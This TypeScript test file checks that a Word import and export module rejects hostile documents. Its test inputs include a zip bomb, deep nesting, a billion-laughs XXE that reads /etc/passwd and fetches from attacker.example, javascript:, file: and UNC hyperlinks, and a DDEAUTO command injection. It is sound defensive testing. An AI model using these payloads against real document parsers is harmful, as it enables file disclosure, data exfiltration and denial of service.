import assert from "node:assert/strict";
import { strToU8, unzipSync, zipSync } from "fflate";
import { readDocument } from "../../src/documents/read-document.ts";
import { readDetails } from "../../src/interchange/document-details.ts";
import { importWord } from "../../src/interchange/from-word/import-word.ts";
import { exportWord } from "../../src/interchange/to-word/export-word.ts";
import { textOf } from "../../src/text/message.ts";
import { buildWordFile, paragraph } from "../interchange/word-file.ts";

/** The text that an import gives, or its problem. */
async function importing(bytes: Uint8Array): Promise<string> {
  const imported = await importWord(bytes);
  return "problem" in imported ? textOf(imported.problem) : imported.text;
}

/** A Word file with a part that says that it is small and is not. */
function lyingFile(part: Uint8Array): Uint8Array {
  const parts = unzipSync(buildWordFile({ body: paragraph("Price") }));
  const bytes = zipSync({ ...parts, "word/document.xml": part });
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  for (let at = 0; at + 46 < bytes.length; at++) {
    const signature = view.getUint32(at, true);
    if (signature === 0x02014b50 && view.getUint32(at + 24, true) === part.length) view.setUint32(at + 24, 100, true);
    if (signature === 0x04034b50 && view.getUint32(at + 22, true) === part.length) view.setUint32(at + 22, 100, true);
  }
  return bytes;
}

function withBody(body: string, prolog = ""): Uint8Array {
  const parts = unzipSync(buildWordFile({ body }));
  const document = new TextDecoder().decode(parts["word/document.xml"]);
  return zipSync({ ...parts, "word/document.xml": strToU8(document.replace(/^(<\?xml[^>]*\?>)?/, `$1${prolog}`)) });
}

describe("a stranger's Word file", function () {
  this.timeout(60_000);

  it("is not unpacked beyond what is read, whatever it says of its size", async () => {
    const before = process.memoryUsage().rss;
    const said = await importing(lyingFile(new Uint8Array(300_000_000).fill(32)));
    assert.match(said, /^The file is damaged|^The document is too large/);
    assert.ok(process.memoryUsage().rss - before < 700_000_000);
  });

  it("has no more than so many parts", async () => {
    const many = Object.fromEntries(Array.from({ length: 20_001 }, (_, at) => [`a/${at}`, new Uint8Array()]));
    assert.match(await importing(zipSync(many, { level: 0 })), /^The document is too large/);
  });

  it("is declined when it is nested too deep", async () => {
    for (const tag of ["w:sdt", "w:tbl", "w:p", "w:ins"]) {
      const said = await importing(withBody(`${`<${tag}>`.repeat(50_000)}${`</${tag}>`.repeat(50_000)}`));
      assert.match(said, /^The document is nested too deep/, tag);
    }
  });

  it("resolves no entities and asks for no other file", async () => {
    const entities = Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join("");
    const prolog = `<!DOCTYPE x [<!ENTITY a0 "BOMB"><!ENTITY file SYSTEM "file:///etc/passwd">${entities}<!ENTITY % out SYSTEM "http://attacker.example/x">%out;]>`;
    const said = await importing(withBody(paragraph("Price &a12; &file; end"), prolog));
    assert.doesNotMatch(said, /BOMB|root:/);
    assert.ok(said.length < 10_000);
  });

  it("links nowhere but to the web", async () => {
    const parts = unzipSync(
      buildWordFile({ body: '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>Anna</w:t></w:r></w:hyperlink></w:p>' }),
    );
    for (const target of ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "\\\\attacker\\share"]) {
      const relationship = `<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${target}" TargetMode="External"/>`;
      const name = "word/_rels/document.xml.rels";
      const found = new TextDecoder().decode(parts[name] ?? strToU8("<Relationships></Relationships>"));
      const rels = found.replace("</Relationships>", `${relationship}</Relationships>`);
      const said = await importing(zipSync({ ...parts, [name]: strToU8(rels) }));
      assert.doesNotMatch(said, /javascript:|file:|data:|\]\(\\\\/, target);
    }
  });
});

describe("a Word file that Mandate writes", () => {
  it("is XML without anything that Word would load, whatever the document says", async () => {
    const hostile = [
      "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
      "\u0000\u0001\u0008\u000b\u001b\ufffe\uffff\ud800 x",
      "]]> <![CDATA[ &a; <!DOCTYPE x>",
      "![x](file:///etc/passwd) ![x](https://attacker.example/x.png) ![x](\\\\attacker\\x)",
      "[a](javascript:alert(1)) [b](file:///etc/passwd) [c](command:x) [d](data:text/html,x)",
      '<a href="javascript:alert(1)">e</a> <img src="https://attacker.example/y.png">',
      "\u202eAnna\u2066",
      "x".repeat(50_000),
    ];
    for (const text of hostile) {
      const front = `---\ntitle: ${JSON.stringify(text)}\nclient: ${JSON.stringify(text)}\n---\n\n`;
      const document = readDocument(
        "sow.md",
        `${front}# Statement of work ${text}\n\n${text}\n\n| a | b |\n|-|-|\n| ${text} | x |\n`,
      );
      const { bytes } = await exportWord(document, readDetails(document), () => undefined, "2026-11-22");
      for (const [name, part] of Object.entries(unzipSync(bytes))) {
        if (!/\.(?:xml|rels)$/.test(name)) continue;
        const xml = new TextDecoder("utf-8", { fatal: true }).decode(part);
        assert.doesNotMatch(xml, /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u, `${name} is no XML.`);
        assert.doesNotMatch(xml, /<!DOCTYPE|<!ENTITY|<w:instrText[^>]*>\s*DDE/);
        assert.doesNotMatch(xml, /Target="(?:javascript|file|command|data|\\)/i, name);
      }
      assert.equal(typeof (await importing(bytes)), "string");
    }
  });
});
